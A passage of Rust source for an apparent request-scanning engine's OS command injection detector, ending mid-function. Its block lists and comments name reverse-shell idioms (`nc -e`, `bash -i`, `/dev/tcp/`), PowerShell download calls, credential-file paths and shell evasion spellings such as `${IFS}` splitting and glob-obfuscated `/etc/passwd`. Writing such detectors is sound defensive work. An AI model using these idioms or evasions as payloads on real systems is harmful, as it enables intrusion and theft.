//! OS command injection: a shell metacharacter (`;`, `|`, `&`, newline, `$(`,
//! backtick) followed by a command, `${IFS}` tricks, shellshock function
//! definitions, and code-execution calls of interpreters.

use std::hash::{BuildHasherDefault, Hasher};

use aho_corasick::AhoCorasick;

use super::rules;
use super::{ByteSet, Category, Location, STRONG, Sink, is_word};

/// Commands that almost only appear in requests as injected commands.
const STRONG_CMDS: &[&str] = &[
    "cd",
    "visudo",
    "gunzip",
    "bunzip2",
    "unxz",
    "htop",
    "vim",
    "nano",
    "gcc",
    "cc",
    "c89",
    "c99",
    "irb",
    "zcat",
    "zstdcat",
    "bzcat",
    "xzcat",
    "openssl",
    "ssh",
    "scp",
    "rsync",
    "nmap",
    "tcpdump",
    "iptables",
    "chroot",
    "su",
    "doas",
    "ldd",
    "strace",
    "gdb",
    "mkfs",
    "fdisk",
    "reboot",
    "poweroff",
    "systemctl",
    "journalctl",
    "usermod",
    "chpasswd",
    "unset",
    "rmdir",
    "readlink",
    "whereis",
    "lsof",
    "fuser",
    "iwconfig",
    "cscli",
    "nice",
    "top",
    "date",
    "column",
    "fold",
    "tar",
    "unzip",
    "ln",
    "mkdir",
    "which",
    "alias",
    "export",
    "history",
    "source",
    "make",
    "mount",
    "route",
    "arp",
    "ip",
    "ss",
    "dd",
    "at",
    "file",
    "stat",
    "cut",
    "tr",
    "wc",
    "uniq",
    "diff",
    "strings",
    "locate",
    "service",
    "watch",
    "rc",
    "ll",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "powershell",
    "pwsh",
    "cmd",
    "cmd.exe",
    "nslookup",
    "passwd",
    "/bin/sh",
    "/bin/bash",
    "/usr/bin/id",
    "/bin/cat",
    "telnet",
    "chmod",
    "chown",
    "crontab",
    "base64",
    "xterm",
    "tftp",
    "certutil",
    "bitsadmin",
    "wmic",
    "systeminfo",
    "tasklist",
    "taskkill",
    "net.exe",
    "reg",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "hostname",
    "getent",
    "useradd",
    "sudo",
    "nohup",
    "killall",
    "pkill",
    "mkfifo",
    "socat",
    "perl",
    "python",
    "python3",
    "php",
    "ruby",
    "lua",
    "node",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "env",
    "printenv",
    "ls",
    "id",
    "dir",
    "pwd",
    "ping",
    "sleep",
    "cat",
    "echo",
    "type",
    "head",
    "tail",
    "more",
    "less",
    "rm",
    "cp",
    "mv",
    "touch",
    "find",
    "grep",
    "dig",
    "host",
    "kill",
    "ps",
    "w",
    "who",
    "uptime",
    "time",
    "set",
    "ver",
    "net",
    "whois",
    "traceroute",
    "tracert",
    "expr",
    "eval",
    "exec",
    "sort",
    "nl",
    "od",
    "xxd",
    "tac",
    "rev",
    "timeout",
    "busybox",
    "start",
    "call",
    "for",
    "if",
    "vi",
    // System administration and packaging tools.
    "flock",
    "perf",
    "rmt",
    "lastlog",
    "lastb",
    "ex",
    "ansible",
    "chef",
    "bsdtar",
    "adduser",
    "deluser",
    "userdel",
    "groupadd",
    "shred",
    "insmod",
    "modprobe",
    "rmmod",
    "lsmod",
    "nsenter",
    "unshare",
    "setfacl",
    "chattr",
    "dmesg",
    "sysctl",
    "pkexec",
    "runuser",
    "tmux",
    "screen",
    "apt",
    "apt-get",
    "dpkg",
    "rpm",
    "yum",
    "pip",
    "pip3",
    "npm",
    "git",
    "docker",
    "kubectl",
    // Windows administration tools.
    "regedit",
    "bcdboot",
    "bcdedit",
    "vssadmin",
    "wevtutil",
    "schtasks",
    "netsh",
    "icacls",
    "cacls",
    "takeown",
    "findstr",
    "forfiles",
    "msiexec",
    "msbuild",
    "diskpart",
];

/// Commands that run another command given as their arguments.
const PREFIXES: &[&str] = &[
    "time", "nohup", "sudo", "env", "timeout", "nice", "strace", "xargs", "exec", "watch",
    "busybox", "doas",
];

/// Prefixes of command families whose members are all commands.
const FAMILIES: &[&str] = &[
    "python", "ansible", "chef-", "perl5", "ruby2", "ruby3", "php7", "php8", "node1", "gcc",
    "base32", "base64", "zstd", "bzip", "gzip", "busybox", "aa-", "rmt-", "apt-",
];

/// Of the commands above, these are ordinary English words and need more context.
const WORDLIKE: &[&str] = &[
    "cd", "top", "date", "column", "fold", "tar", "ln", "which", "alias", "export", "history",
    "source", "make", "mount", "route", "arp", "ip", "ss", "dd", "at", "file", "stat", "cut", "tr",
    "wc", "uniq", "diff", "strings", "locate", "service", "watch", "rc", "ll", "su", "cc", "nice",
    "nc", "cat", "echo", "type", "head", "tail", "more", "less", "find", "host", "kill", "time",
    "set", "net", "sort", "start", "call", "for", "if", "w", "who", "dir", "id", "ping", "sleep",
    "touch", "env", "reg", "sh", "expr", "nl", "od", "rev", "sed", "node", "ls", "ps", "cp", "mv",
    "rm", "vi", "timeout", "ver", "dig", "exec", "eval", "php", "perl", "python", "ruby", "lua",
    "ex", "chef", "screen", "perf", "apt", "git", "docker", "npm", "pip",
];

/// Interpreter/code-execution calls (PHP, Python, Perl, Node) that run commands.
const EXEC_CALLS: &[&str] = &[
    "system(",
    "passthru(",
    "shell_exec(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "os.system(",
    "os.popen(",
    "subprocess.",
    "runtime.getruntime",
    "child_process",
    "execsync(",
    "spawnsync(",
    "/bin/sh",
    "/bin/bash",
    "cmd.exe",
    "cmd /c",
    "/dev/tcp/",
    "${ifs}",
    "$ifs",
    "/etc/passwd",
    "powershell -",
    "iex(",
    "invoke-expression",
    "nc -e",
    "bash -i",
    "sh -i",
    "invoke-webrequest",
    "invoke-restmethod",
    "start-process",
    "net.webclient",
    "downloadstring(",
    "downloadfile(",
    "frombase64string(",
    "-encodedcommand",
    "iwr http",
    "$shell",
    "/bin/",
    "<?php",
    "<?=",
    "phpinfo(",
    "phpversion(",
    "net view",
    "net user",
    "net localgroup",
];

pub(crate) struct Cmdi {
    calls: AhoCorasick,
}

impl Cmdi {
    pub(crate) fn new() -> Cmdi {
        let calls = super::matcher(EXEC_CALLS);
        Cmdi { calls }
    }

    /// `set` holds the bytes of `lower`.
    pub(crate) fn check(&self, lower: &str, set: &ByteSet, loc: &Location, sink: &mut Sink<'_>) {
        let s = lower.as_bytes();
        // Shellshock: a function definition at the start of a header or value.
        let has_paren = set.any(&ByteSet::from(b"("));
        if has_paren
            && let Some(p) = finder!(b"() {").find(s)
            && (s[..p].iter().all(|b| b.is_ascii_whitespace())
                || finder!(b"};").find(&s[p..]).is_some())
        {
            sink.push(
                rules::CMDI_SHELLSHOCK,
                Category::Cmdi,
                STRONG,
                loc,
                lower,
                p,
            );
        }
        if has_paren && let Some(p) = function_definition(s) {
            sink.push(rules::CMDI_FUNCTION, Category::Cmdi, STRONG, loc, lower, p);
        }
        let has_meta = set.any(&ByteSet::from(b";|&\n`$\r<>'\\("));
        let has_call = self.calls.find(lower).map(|m| m.start());
        if let Some(at) = has_call {
            sink.push(
                rules::CMDI_EXEC_CALL,
                Category::Cmdi,
                if has_meta || at == 0 { STRONG } else { 6 },
                loc,
                lower,
                at,
            );
        }
        if let Some(p) = arithmetic_expansion(s) {
            sink.push(
                rules::CMDI_SUBSTITUTION,
                Category::Cmdi,
                STRONG,
                loc,
                lower,
                p,
            );
        }
        if let Some(at) = windows_batch(lower) {
            sink.push(rules::CMDI_BATCH, Category::Cmdi, STRONG, loc, lower, at);
        }
        if set.any(&ByteSet::from(b"?*["))
            && let Some(at) = glob_path(lower)
        {
            sink.push(
                rules::CMDI_GLOB_PATH,
                Category::Cmdi,
                STRONG,
                loc,
                lower,
                at,
            );
        }
        if set.any(&ByteSet::from(b"'\"\\$`[{<>"))
            && let Some(at) = obfuscated_word(s)
        {
            sink.push(
                rules::CMDI_OBFUSCATION,
                Category::Cmdi,
                STRONG,
                loc,
                lower,
                at,
            );
        }
        if is_tilde_expansion(s) {
            sink.push(
                rules::CMDI_OBFUSCATION,
                Category::Cmdi,
                STRONG,
                loc,
                lower,
                0,
            );
        }
        self.leading_command(s, lower, loc, sink);
        if !has_meta {
            return;
        }
        if let Some(at) = mail_injection(s) {
            sink.push(
                rules::CMDI_MAIL_COMMAND,
                Category::Cmdi,
                STRONG,
                loc,
                lower,
                at,
            );
        }
        if set.any(&ByteSet::from(b"$"))
            && let Some(at) = variable_command(s)
        {
            sink.push(
                rules::CMDI_VARIABLE_COMMAND,
                Category::Cmdi,
                STRONG,
                loc,
                lower,
                at,
            );
        }
        // Variable-insertion evasion (`/bin$u/cat`, `c${x}at`): scan a copy without
        // the variables as well.
        if set.any(&ByteSet::from(b"$`"))
            && s.windows(2).any(|w| {
                w[0] == b'$' && (w[1].is_ascii_alphabetic() || matches!(w[1], b'{' | b'@' | b'$'))
                    || w == b"``"
            })
        {
            let cleaned = strip_vars(lower);
            if cleaned != lower {
                self.leading_command(cleaned.as_bytes(), &cleaned, loc, sink);
                self.scan(cleaned.as_bytes(), &cleaned, loc, sink);
            }
        }
        // Commands are only looked for after a separator.
        if set.any(&SEPARATOR_BYTES) {
            self.scan(s, lower, loc, sink);
        }
    }

    /// A command with path or flag arguments as the whole value.
    fn leading_command(&self, s: &[u8], lower: &str, loc: &Location, sink: &mut Sink<'_>) {
        let Some(cmd) = command_at(s, 0) else {
            return;
        };
        let tail = squeeze(&s[cmd.after..]);
        let flag = flag_arg(tail);
        // `ls -l /etc/`: flags followed by an absolute path count as a path argument.
        let abs_arg = tail.starts_with(b" /")
            || tail.starts_with(b" ~/")
            || drive_path(tail)
            || flag && finder!(b" /").find(tail).is_some();
        let wordlike = WORDLIKE.contains(&cmd.name);
        // Wrapper commands (`time sh -c`, `nohup ifconfig`) followed by a command.
        // ("time for lunch" is prose: the wrapped command must be unambiguous.)
        if PREFIXES.contains(&cmd.name)
            && command_at(s, cmd.after)
                .is_some_and(|c| !WORDLIKE.contains(&c.name) || flag_arg(&s[c.after..]))
        {
            sink.push(rules::CMDI_COMMAND, Category::Cmdi, STRONG, loc, lower, 0);
            return;
        }
        // Shell syntax right after the command (`ifconfig;`, `curl|sh`) or the
        // newline that submits a command line (`visudo\n`).
        let terminated = tail
            .first()
            .is_some_and(|b| matches!(b, b';' | b'|' | b'&' | b'`'));
        let ends_line = s.ends_with(b"\n");
        let sc = if cmd.split
            || cmd.bin_path
            || abs_arg
            || (!wordlike && (flag || terminated || ends_line))
            || long_flag_arg(tail)
            || (flag && ends_line)
        {
            STRONG
        } else if flag {
            6
        } else {
            0
        };
        if sc > 0 {
            sink.push(rules::CMDI_COMMAND, Category::Cmdi, sc, loc, lower, 0);
        }
    }

    /// The checks that apply to values without shell metacharacters (words only).
    pub(crate) fn check_plain(&self, lower: &str, loc: &Location, sink: &mut Sink<'_>) {
        if let Some(at) = windows_batch(lower) {
            sink.push(rules::CMDI_BATCH, Category::Cmdi, STRONG, loc, lower, at);
        }
        self.leading_command(lower.as_bytes(), lower, loc, sink);
    }

    fn scan(&self, s: &[u8], lower: &str, loc: &Location, sink: &mut Sink<'_>) {
        let mut i = 0;
        let mut budget = 64;
        while i < s.len() && budget > 0 {
            // Only bytes in `SEP_START` can start a separator: skip to the next one.
            let Some(off) = s[i..].iter().position(|&b| SEP_START[usize::from(b)]) else {
                break;
            };
            i += off;
            let c = s[i];
            let Some(skip) = separator(s, i) else {
                i += 1;
                continue;
            };
            budget -= 1;
            let sep_at = i;
            i += skip;
            if let Some(cmd) = command_at(s, i) {
                // `&sort=desc`, `;id=7`: a parameter name or a shell assignment, not
                // a command (`name=value&name2=value2` is no command chain).
                if s.get(cmd.after) == Some(&b'=') && s.get(cmd.after + 1) != Some(&b'=') {
                    continue;
                }
                let wordlike = WORDLIKE.contains(&cmd.name);
                let tail = squeeze(&s[cmd.after..]);
                // Arguments that look like shell usage: flags, paths, redirections, more metachars.
                let shellish_args = tail.first().is_none_or(|&b| {
                    matches!(
                        b,
                        b';' | b'|'
                            | b'&'
                            | b'`'
                            | b')'
                            | b'\''
                            | b'"'
                            | b'\n'
                            | b'>'
                            | b'<'
                            | b'$'
                            | b'#'
                            | b'+'
                    )
                }) || flag_arg(tail)
                    || tail.starts_with(b" /")
                    || tail.starts_with(b" .")
                    || tail.starts_with(b" ~")
                    || tail.starts_with(b" $")
                    || tail.starts_with(b"${ifs}")
                    || tail.starts_with(b"$ifs")
                    || tail.starts_with(b"\t")
                    || tail.starts_with(b" '")
                    || tail.starts_with(b" \"")
                    || tail.starts_with(b" `")
                    || tail.starts_with(b"\\")
                    || drive_path(tail)
                    || (tail.starts_with(b" ") && tail.len() > 1 && is_word(tail[1]) && !wordlike);
                // Substitutions and subshells: `` `id` ``, `$(id)`, `&& (sh)`.
                let sub = matches!(c, b'`' | b'$' | b'(')
                    || s.get(sep_at + 1) == Some(&b'(')
                    || s.get(i) == Some(&b'(');
                // Markdown code spans (``run `npm install` then``): a backtick pair
                // around plain words, set off by blanks.
                let code_span = c == b'`'
                    && sep_at > 0
                    && s[sep_at - 1].is_ascii_whitespace()
                    && memchr::memchr(b'`', &s[i..]).is_some_and(|e| {
                        s[i..i + e]
                            .iter()
                            .all(|&b| is_word(b) || matches!(b, b' ' | b'.' | b'-'))
                            && s.get(i + e + 1)
                                .is_none_or(|b| !b.is_ascii_alphanumeric() && *b != b'`')
                    });
                let sc = match (wordlike, shellish_args || sub) {
                    _ if cmd.split => STRONG,
                    _ if code_span => 2,
                    (false, true) => STRONG,
                    (false, false) => 6,
                    (true, true) => {
                        let args = flag_arg(tail) || tail.starts_with(b" /") || drive_path(tail);
                        if sub || tail.is_empty() || c != b'&' || args {
                            STRONG
                        } else {
                            6
                        }
                    }
                    // A word that is also a command (`more`, `set`, `call`)
                    // after `;` or `&` with plain words: a sentence, below the
                    // alert threshold; only what follows can make it count.
                    (true, false) => 2,
                };
                sink.push(rules::CMDI_COMMAND, Category::Cmdi, sc, loc, lower, sep_at);
            }
        }
    }
}

/// If a shell command separator or substitution opener starts at `i`, its length.
fn separator(s: &[u8], i: usize) -> Option<usize> {
    let c = s[i];
    if !SEP_START[usize::from(c)] {
        return None;
    }
    match c {
        b';' | b'\n' | b'\r' | b'`' => Some(1),
        b'|' | b'&' => Some(if s.get(i + 1) == Some(&c) { 2 } else { 1 }),
        b'$' if s.get(i + 1) == Some(&b'(') => {
            Some(if s.get(i + 2) == Some(&b'(') { 3 } else { 2 })
        }
        b'$' if s.get(i + 1) == Some(&b'{') => Some(2),
        b'<' | b'>' if s.get(i + 1) == Some(&b'(') => Some(2),
        // A literal `\n` is a newline once the value is unescaped downstream.
        b'\\' if matches!(s.get(i + 1), Some(b'n' | b'r')) => Some(2),
        // A command string passed to `exec('...')`, `system("...")`.
        b'(' if matches!(s.get(i + 1), Some(b'\'' | b'"')) => Some(1),
        _ => None,
    }
}

/// Bytes that can start a [`separator`], as a set.
const SEPARATOR_BYTES: ByteSet = ByteSet::from(b";\n\r`|&$<>\\(");

/// Bytes that can start a [`separator`].
static SEP_START: [bool; 256] = {
    let mut t = [false; 256];
    let bytes = b";\n\r`|&$<>\\(";
    let mut k = 0;
    while k < bytes.len() {
        t[bytes[k] as usize] = true;
        k += 1;
    }
    t
};

/// `$((1+1))` and the older `$[1+1]`: arithmetic expansion, which no data format
/// uses (JSONPath's `$[0]` has no operator).
fn arithmetic_expansion(s: &[u8]) -> Option<usize> {
    if let Some(p) = finder!(b"$((").find(s) {
        return Some(p);
    }
    let p = finder!(b"$[").find(s)?;
    let body = &s[p + 2..];
    let end = memchr::memchr(b']', body).filter(|&e| e <= 32)?;
    let inner = &body[..end];
    let only_arith = inner
        .iter()
        .all(|&b| is_word(b) || matches!(b, b'+' | b'-' | b'*' | b'/' | b'%' | b' ' | b'$'));
    let has_op = inner
        .iter()
        .any(|&b| matches!(b, b'+' | b'-' | b'*' | b'/' | b'%'));
    (only_arith && has_op).then_some(p)
}

/// `$x -flag`, `${SHELL} -c ...`, `c=cat;$c $a`: a variable used as the
/// command word. Text mentions `$name`, but not in command position followed by
/// shell arguments, nor right after assigning it.
fn variable_command(s: &[u8]) -> Option<usize> {
    let mut assigned: [&[u8]; 8] = [&[]; 8];
    let mut n_assigned = 0;
    let mut pos = 0;
    let mut budget = 64;
    loop {
        let mut k = pos;
        while k < s.len() && matches!(s[k], b' ' | b'\t' | b'(' | b'{') {
            k += 1;
        }
        let name_len = s[k..].iter().take_while(|&&b| is_word(b)).count();
        if name_len > 0 && s.get(k + name_len) == Some(&b'=') && !s[k].is_ascii_digit() {
            if n_assigned < assigned.len() {
                assigned[n_assigned] = &s[k..k + name_len];
                n_assigned += 1;
            }
        } else if let Some((name, end)) = var_ref(s, k) {
            let tail = &s[end..];
            let letter_flag = tail.starts_with(b" -")
                && tail[2..]
                    .iter()
                    .find(|&&b| b != b'-')
                    .is_some_and(u8::is_ascii_alphabetic);
            if letter_flag || tail.starts_with(b" /") || assigned[..n_assigned].contains(&name) {
                return Some(k);
            }
        }
        // On to the next command position.
        let mut i = k;
        loop {
            if i >= s.len() || budget == 0 {
                return None;
            }
            if let Some(skip) = separator(s, i)
                && s[i] != b'$'
            {
                budget -= 1;
                pos = i + skip;
                break;
            }
            i += 1;
        }
    }
}

/// `$name` or `${name}` at `k`: the name and the offset after the reference.
fn var_ref(s: &[u8], k: usize) -> Option<(&[u8], usize)> {
    if s.get(k) != Some(&b'$') {
        return None;
    }
    if s.get(k + 1) == Some(&b'{') {
        let e = memchr::memchr(b'}', &s[k + 2..]).filter(|&e| e > 0 && e <= 32)?;
        let name = &s[k + 2..k + 2 + e];
        return name
            .iter()
            .all(|&b| is_word(b))
            .then_some((name, k + 3 + e));
    }
    let first = *s.get(k + 1)?;
    if !(first.is_ascii_alphabetic() || first == b'_') {
        return None;
    }
    let len = s[k + 1..].iter().take_while(|&&b| is_word(b)).count();
    Some((&s[k + 1..k + 1 + len], k + 1 + len))
}

/// A word that only a shell turns into a command or a sensitive path: split by
/// empty quotes or substitutions (`cu$@rl`, `ping$()`, `pi>()ng`, `c$*at`,
/// `py''thon`), escaped (`\ls`), or built by brace expansion and one-character
/// globs (`c{a,oun}t`, `{cat,/etc/passwd}`, `adduse[r]`).
fn obfuscated_word(s: &[u8]) -> Option<usize> {
    if !s.iter().any(|b| {
        matches!(
            b,
            b'\'' | b'"' | b'\\' | b'$' | b'`' | b'[' | b'{' | b'<' | b'>'
        )
    }) {
        return None;
    }
    let mut start = 0;
    for word in s.split(|&b| matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'='))
    {
        let at = start;
        start += word.len() + 1;
        if word.len() < 2 || word.len() > 64 {
            continue;
        }
        if brace_list_command(word) {
            return Some(at);
        }
        let mut buf = [0u8; 64];
        let mut len = 0;
        let mut marker = false;
        let mut quotes = 0;
        let mut k = 0;
        while k < word.len() {
            let b = word[k];
            let next = word.get(k + 1).copied();
            let inner = k > 0 && k + 1 < word.len();
            match b {
                b'\'' | b'"' => {
                    quotes += 1;
                    marker |= inner;
                    k += 1;
                    continue;
                }
                b'\\' => {
                    marker = true;
                    k += 1;
                    continue;
                }
                b'$' if matches!(next, Some(b'@' | b'*' | b'#' | b'-' | b'!' | b'?')) => {
                    marker = true;
                    k += 2;
                    continue;
                }
                b'$' if next == Some(b'(') && word.get(k + 2) == Some(&b')') => {
                    marker = true;
                    k += 3;
                    continue;
                }
                b'$' => {
                    if let Some((_, end)) = var_ref(word, k) {
                        marker = true;
                        k = end;
                        continue;
                    }
                }
                b'`' if next == Some(b'`') => {
                    marker = true;
                    k += 2;
                    continue;
                }
                b'<' | b'>' if next == Some(b'(') && word.get(k + 2) == Some(&b')') => {
                    marker = true;
                    k += 3;
                    continue;
                }
                b'[' => {
                    if let Some(e) = memchr::memchr(b']', &word[k..]).filter(|&e| e >= 2) {
                        // A bracket class: keep its first member.
                        marker = true;
                        if len < buf.len() {
                            buf[len] = word[k + 1];
                            len += 1;
                        }
                        k += e + 1;
                        continue;
                    }
                }
                b'{' if k > 0 => {
                    if let Some(e) = memchr::memchr(b'}', &word[k..])
                        && word[k..k + e].contains(&b',')
                    {
                        // Brace expansion inside a word: keep the first alternative.
                        marker = true;
                        for &c in word[k + 1..k + e]
                            .split(|&c| c == b',')
                            .next()
                            .unwrap_or_default()
                        {
                            if len < buf.len() {
                                buf[len] = c;
                                len += 1;
                            }
                        }
                        k += e + 1;
                        continue;
                    }
                }
                _ => {}
            }
            if len < buf.len() {
                buf[len] = b;
                len += 1;
            }
            k += 1;
        }
        if !marker || quotes % 2 == 1 {
            continue;
        }
        let cleaned = &buf[..len];
        if SENSITIVE_PATHS
            .iter()
            .any(|p| memchr::memmem::find(cleaned, p.as_bytes()).is_some())
        {
            return Some(at);
        }
        let base = cleaned.rsplit(|&b| b == b'/').next().unwrap_or(cleaned);
        let base = base.strip_suffix(b".exe").unwrap_or(base);
        if !base.is_empty() && lookup(base).is_some() {
            return Some(at);
        }
    }
    None
}

/// Paths whose obfuscated spelling is an attack on its own.
const SENSITIVE_PATHS: &[&str] = &["/etc/passwd", "/etc/shadow", "/bin/", "/dev/tcp/"];

/// `{cat,/etc/passwd}`, `{,cd,/etc,}`: brace expansion that spells a command line
/// without blanks. (`{id,name}` field lists have no argument-like second item.)
fn brace_list_command(word: &[u8]) -> bool {
    let Some(inner) = word.strip_prefix(b"{").and_then(|w| w.strip_suffix(b"}")) else {
        return false;
    };
    if !inner.contains(&b',') {
        return false;
    }
    let mut items = inner.split(|&b| b == b',');
    let mut leading_empty = false;
    let first = loop {
        match items.next() {
            Some([]) => leading_empty = true,
            Some(w) => break w,
            None => return false,
        }
    };
    let arg_like = items
        .next()
        .and_then(|w| w.first())
        .is_some_and(|b| matches!(b, b'-' | b'/' | b'.' | b'~' | b'$' | b'#'));
    (leading_empty || arg_like) && command_at(first, 0).is_some_and(|c| c.after == first.len())
}

/// `~+`, `~-`, `~+2`: tilde expansions of the shell's directory stack as a whole
/// value.
fn is_tilde_expansion(s: &[u8]) -> bool {
    let t = s.trim_ascii();
    t.len() >= 2
        && t[0] == b'~'
        && matches!(t[1], b'+' | b'-')
        && t[2..].iter().all(u8::is_ascii_digit)
}

/// A CR/LF followed by an SMTP, POP3 or IMAP command: injection into a mail
/// protocol conversation (`\r\nRCPT TO:<x>`, `\r\nRETR 1`, `\r\na1 FETCH 1 BODY[]`).
fn mail_injection(s: &[u8]) -> Option<usize> {
    const IMAP: &[&[u8]] = &[
        b"login",
        b"select",
        b"examine",
        b"status",
        b"fetch",
        b"store",
        b"copy",
        b"append",
        b"list",
        b"lsub",
        b"logout",
        b"uid",
        b"search",
        b"create",
        b"delete",
        b"rename",
        b"capability",
        b"authenticate",
        b"starttls",
        b"expunge",
    ];
    let num =
        |w: Option<&[u8]>| w.is_some_and(|w| !w.is_empty() && w.iter().all(u8::is_ascii_digit));
    for nl in memchr::memchr_iter(b'\n', s) {
        let rest = &s[nl + 1..];
        let line = &rest[..memchr::memchr2(b'\r', b'\n', rest).unwrap_or(rest.len())];
        if line.starts_with(b"mail from:")
            || line.starts_with(b"rcpt to:")
            || line.starts_with(b"vrfy ")
            || line.starts_with(b"expn ")
        {
            return Some(nl);
        }
        let mut words = line.split(|&b| b == b' ');
        let (w0, w1, w2) = (words.next(), words.next(), words.next());
        let pop3 = match w0 {
            Some(b"retr" | b"dele") => num(w1) && w2.is_none(),
            Some(b"top") => num(w1) && num(w2),
            _ => false,
        };
        let imap = w0.is_some_and(|t| {
            t.len() <= 10
                && t.iter().all(u8::is_ascii_alphanumeric)
                && t.iter().any(u8::is_ascii_digit)
                && t.iter().any(u8::is_ascii_alphabetic)
        }) && w1.is_some_and(|v| IMAP.contains(&v));
        if pop3 || imap {
            return Some(nl);
        }
    }
    None
}

/// `f(){ f|f& };f`, `test() { test | test & } test`: a shell function defined and
/// then run (fork bombs and their relatives). JavaScript methods are neither
/// piped into themselves nor called without parentheses.
fn function_definition(s: &[u8]) -> Option<usize> {
    for p in finder!(b"()").find_iter(s) {
        let name_start = if p > 0 && s[p - 1] == b':' {
            p - 1
        } else {
            p - s[..p].iter().rev().take_while(|&&b| is_word(b)).count()
        };
        let name = &s[name_start..p];
        if name.is_empty() || s[..name_start].ends_with(b"function ") {
            continue;
        }
        let mut k = p + 2;
        while k < s.len() && s[k] == b' ' {
            k += 1;
        }
        if s.get(k) != Some(&b'{') {
            continue;
        }
        let Some(close) = memchr::memchr(b'}', &s[k..]).map(|e| k + e) else {
            continue;
        };
        let body = &s[k + 1..close];
        let piped = body.split(|&b| b == b'|').count() > 1
            && body
                .split(|&b| matches!(b, b'|' | b'&' | b' ' | b';'))
                .any(|w| w == name || w.strip_suffix(b"()") == Some(name));
        let after = s[close + 1..].trim_ascii_start();
        let after = after.strip_prefix(b";").unwrap_or(after).trim_ascii_start();
        let called = after.starts_with(name)
            && after
                .get(name.len())
                .is_none_or(|&b| matches!(b, b' ' | b';' | b'&' | b'|' | b'\n'));
        if piped || called {
            return Some(name_start);
        }
    }
    None
}

/// ` -x` or ` --long` (a dash between words, ` - `, is prose).
fn flag_arg(tail: &[u8]) -> bool {
    tail.starts_with(b" -")
        && tail
            .get(2)
            .is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'-')
}

/// `tail` with a run of blanks before the first argument cut to one (`ls    -la`).
fn squeeze(tail: &[u8]) -> &[u8] {
    let blanks = tail
        .iter()
        .take_while(|&&b| b == b' ' || b == b'\t')
        .count();
    if blanks > 1 {
        &tail[blanks - 1..]
    } else {
        tail
    }
}

/// ` --long`: a long option (an em dash, ` -- `, is prose).
fn long_flag_arg(tail: &[u8]) -> bool {
    tail.starts_with(b" --") && tail.get(3).is_some_and(u8::is_ascii_alphabetic)
}

/// ` c:\\` or ` c:/` at the start of `tail`.
fn drive_path(tail: &[u8]) -> bool {
    tail.len() >= 4
        && tail[0] == b' '
        && tail[1].is_ascii_alphabetic()
        && tail[2] == b':'
        && matches!(tail[3], b'\\' | b'/')
}

/// Removes shell variable references (`$x`, `${x}`, `$@`); `$IFS` becomes a space.
fn strip_vars(lower: &str) -> String {
    let b = lower.as_bytes();
    let mut out = String::with_capacity(lower.len());
    let mut i = 0;
    let mut last = 0;
    while let Some(p) = memchr::memchr(b'$', &b[i..]) {
        let a = i + p;
        let mut j = a + 1;
        let mut space = false;
        if b.get(j) == Some(&b'{') {
            match memchr::memchr(b'}', &b[j..]) {
                Some(e) if e <= 32 => {
                    space = &b[j + 1..j + e] == b"ifs";
                    j += e + 1;
                }
                _ => {
                    i = a + 1;
                    continue;
                }
            }
        } else if matches!(b.get(j), Some(b'@' | b'$')) {
            j += 1;
        } else {
            while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
                j += 1;
            }
            space = &b[a + 1..j] == b"ifs";
            if j == a + 1 || b.get(j) == Some(&b'(') {
                i = a + 1;
                continue;
            }
        }
        out.push_str(&lower[last..a]);
        if space {
            out.push(' ');
        }
        i = j;
        last = j;
    }
    out.push_str(&lower[last..]);
    // Empty command substitutions split words too (`ping`` 1.2.3.4`).
    if out.contains("``") {
        out = out.replace("``", "");
    }
    out
}

/// `for /f ... in (...) do ...` and `if [not] exist|defined|errorlevel ...` batch
/// syntax of cmd.exe.
fn windows_batch(lower: &str) -> Option<usize> {
    let t = lower.trim_start_matches(['&', '|', ';', ' ', '\t', '\n', '"', '\'']);
    let at = lower.len() - t.len();
    if t.starts_with("for ") {
        let has_in = t.contains(" in (") || t.contains(" in(");
        let has_do = t.contains(") do ") || t.contains(")do ") || t.contains(") do(");
        if has_in && has_do {
            return Some(at);
        }
    }
    if let Some(rest) = t.strip_prefix("if ") {
        let rest = rest.trim_start();
        let rest = rest.strip_prefix("not ").map_or(rest, str::trim_start);
        let rest = rest.strip_prefix("/i ").map_or(rest, str::trim_start);
        let keyword = ["exist ", "defined ", "errorlevel "]
            .iter()
            .any(|k| rest.starts_with(k));
        let cmp = [" equ ", " neq ", " lss ", " leq ", " gtr ", " geq ", "=="]
            .iter()
            .any(|k| rest.contains(k));
        let var = rest.starts_with('%')
            || rest.starts_with('"')
            || rest.starts_with('(')
            || rest.starts_with('{');
        // `if a==b cmd`: a comparison of two bare words followed by a command.
        let bare_cmp = rest.split_once(' ').is_some_and(|(c, after)| {
            c.split_once("==")
                .is_some_and(|(l, r)| !l.is_empty() && !r.is_empty())
                && after.starts_with(|ch: char| ch.is_ascii_alphabetic())
        });
        if keyword
            || bare_cmp
            || (cmp
                && (var || rest.contains('%') || rest.contains("echo") || rest.contains("goto")))
        {
            return Some(at);
        }
    }
    if t.starts_with("alias ")
        && t[6..]
            .trim_start()
            .split_once('=')
            .is_some_and(|(k, _)| !k.is_empty() && !k.contains(' '))
    {
        return Some(at);
    }
    None
}

/// Shell globs that spell a sensitive path (`/e??/p*wd`, `/[e]tc/pa[?]swd`).
fn glob_path(lower: &str) -> Option<usize> {
    const TARGETS: &[&str] = &[
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hosts",
        "/bin/sh",
        "/bin/bash",
        "/bin/nc",
        "/bin/cat",
        "/usr/bin/id",
        "/bin/busybox",
        "/usr/bin/wget",
        "/usr/bin/curl",
        "/bin/netcat",
        "/usr/bin/python",
    ];
    const DIRS: &[&str] = &[
        "/etc",
        "/etc/",
        "/bin",
        "/bin/",
        "/usr/bin",
        "/dev/tcp",
        "/proc/self",
    ];
    let b = lower.as_bytes();
    if !b.iter().any(|c| matches!(c, b'?' | b'*' | b'[')) {
        return None;
    }
    for (start, word) in lower
        .split([' ', '\t', ';', '|', '&', '`', '\'', '"', ',', '{', '}'])
        .scan(0usize, |off, w| {
            let s = *off;
            *off += w.len() + 1;
            Some((s, w))
        })
    {
        if word.len() > 64
